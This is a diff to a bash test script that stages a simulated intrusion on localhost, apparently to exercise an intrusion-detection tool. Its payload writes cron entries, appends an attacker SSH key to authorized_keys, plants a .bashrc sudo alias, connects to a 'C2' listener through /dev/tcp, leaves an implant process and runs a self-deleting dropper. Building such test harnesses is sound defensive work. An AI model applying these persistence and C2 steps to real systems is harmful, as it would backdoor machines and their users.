@@ -15,8 +15,11 @@
 #      payload and run it;
 #   3. the payload (a bash script) writes the cron file
 #      /etc/cron.d/hinomi-test-TOKEN (a line that never runs: 31 February),
-#      appends a key to SCRATCH/home/alice/.ssh/authorized_keys and a line
-#      to SCRATCH/home/alice/.bashrc, connects to a "C2" listener on
+#      appends a line to the shared cron file /etc/cron.d/hinomi-shared-TOKEN
+#      (made by the setup with a benign line), appends a key to
+#      SCRATCH/home/alice/.ssh/authorized_keys and a line to
+#      SCRATCH/home/alice/.bashrc, leaves an implant running (a sleep of
+#      120 s whose parent, the payload, ends: IMPLANT_PID), connects to a "C2" listener on
 #      127.0.0.1 (from its own process: bash's /dev/tcp), and starts a
 #      child that copies the payload to SCRATCH/dropper and runs it; the
 #      dropper removes its own file (rm of its own path) and exits.
@@ -30,10 +33,12 @@
 # Safety: 127.0.0.1 only; every wait is bounded (the whole run takes a few
 # seconds; under three minutes whatever happens); every process started is
 # ended by its pid.
-# Outside SCRATCH only the cron file is written (and /etc/cron.d made when
-# it is missing); both are removed on exit, whatever the exit (trap), and a
-# caller that has to SIGKILL this script knows the cron file's name: it is
-# /etc/cron.d/hinomi-test-TOKEN.
+# Outside SCRATCH only the two cron files are written (and /etc/cron.d made
+# when it is missing); they are removed on exit, whatever the exit (trap),
+# unless KEEP_CRON=1 (a caller that goes on with them: it removes them),
+# and a caller that has to SIGKILL this script knows their names:
+# /etc/cron.d/hinomi-test-TOKEN and /etc/cron.d/hinomi-shared-TOKEN.
+# The implant is the caller's to end (by IMPLANT_PID).
 set -u
 
 PY=/usr/bin/python3
@@ -53,6 +58,7 @@ command -v curl >/dev/null || { echo "intrusion.sh: no curl" >&2; exit 2; }
 
 TOKEN=$(basename "$S")
 CRON=/etc/cron.d/hinomi-test-$TOKEN
+SHARED=/etc/cron.d/hinomi-shared-$TOKEN
 PAYLOAD=$S/payload
 DROPPER=$S/dropper
 STAGE=$S/stage.sh
@@ -69,8 +75,10 @@ cleanup() {
 	for p in $PIDS; do
 		kill "$p" 2>/dev/null
 	done
-	rm -f "$CRON"
-	[ -z "$MADE_CRON_D" ] || rmdir /etc/cron.d 2>/dev/null
+	if [ "${KEEP_CRON:-0}" != 1 ]; then
+		rm -f "$CRON" "$SHARED"
+		[ -z "$MADE_CRON_D" ] || rmdir /etc/cron.d 2>/dev/null
+	fi
 }
 trap cleanup EXIT
 trap 'exit 1' INT TERM HUP
@@ -119,6 +127,7 @@ fail() {
 say SCRATCH "$S"
 say TOKEN "$TOKEN"
 say CRON "$CRON"
+say SHARED_CRON "$SHARED"
 say PAYLOAD "$PAYLOAD"
 say DROPPER "$DROPPER"
 say STAGE "$STAGE"
@@ -135,6 +144,9 @@ if [ ! -d /etc/cron.d ]; then
 	MADE_CRON_D=1
 fi
 [ ! -e "$CRON" ] || fail "$CRON exists already"
+[ ! -e "$SHARED" ] || fail "$SHARED exists already"
+# a benign user's line in a cron file the attack will add to (never runs)
+echo '0 0 31 2 * root /bin/true # benign-before' > "$SHARED" || fail "cannot write $SHARED"
 
 # ---- the listeners: C2, HTTP server, the network service ----
 # C2: accepts one connection (60 s at most), reads what comes (5 s), closes.
@@ -218,7 +230,8 @@ uname -s
 EOF
 # The payload (bash: /dev/tcp connects from the payload's own process).
 # Run as "PATH --dropped" it is the dropper: it removes its own file.
-sed -e "s|@S@|$S|g" -e "s|@C2@|$C2_PORT|g" -e "s|@CRON@|$CRON|g" > "$S/www/payload" <<'EOF'
+sed -e "s|@S@|$S|g" -e "s|@C2@|$C2_PORT|g" -e "s|@CRON@|$CRON|g" -e "s|@SHARED@|$SHARED|g" \
+	> "$S/www/payload" <<'EOF'
 #!/bin/bash
 if [ "${1:-}" = --dropped ]; then
 	echo "DROPPER_PID=$$"
@@ -227,6 +240,9 @@ if [ "${1:-}" = --dropped ]; then
 fi
 echo "PAYLOAD_PID=$$"
 echo '0 0 31 2 * root true' > "@CRON@"
+echo '0 0 31 2 * root /bin/true # attacker' >> "@SHARED@"
+sleep 120 </dev/null >/dev/null 2>&1 &
+echo "IMPLANT_PID=$!"
 echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAttackerKeyForHinomiTestsOnly mallory@c2' >> "@S@/home/alice/.ssh/authorized_keys"
 echo 'alias sudo="sudo " # hinomi-test' >> "@S@/home/alice/.bashrc"
 if exec 3<>"/dev/tcp/127.0.0.1/@C2@"; then
@@ -310,10 +326,11 @@ stop "$HTTP_PID"
 PIDS=
 
 [ "$client_rc" = 0 ] || fail "the attack did not finish (the attacker's client: $client_rc)"
-for k in SHELL_PID PAYLOAD_PID DROPPER_PID C2_SENT PAYLOAD_OK; do
+for k in SHELL_PID PAYLOAD_PID DROPPER_PID IMPLANT_PID C2_SENT PAYLOAD_OK; do
 	grep -q "^$k=" "$S/attacker.out" || fail "no $k from the attack"
 done
 [ -s "$CRON" ] || fail "the payload wrote no cron file"
+grep -q attacker "$SHARED" || fail "the payload did not add to $SHARED"
 [ ! -e "$DROPPER" ] || fail "the dropper did not remove itself"
 say RESULT ok
 exit 0
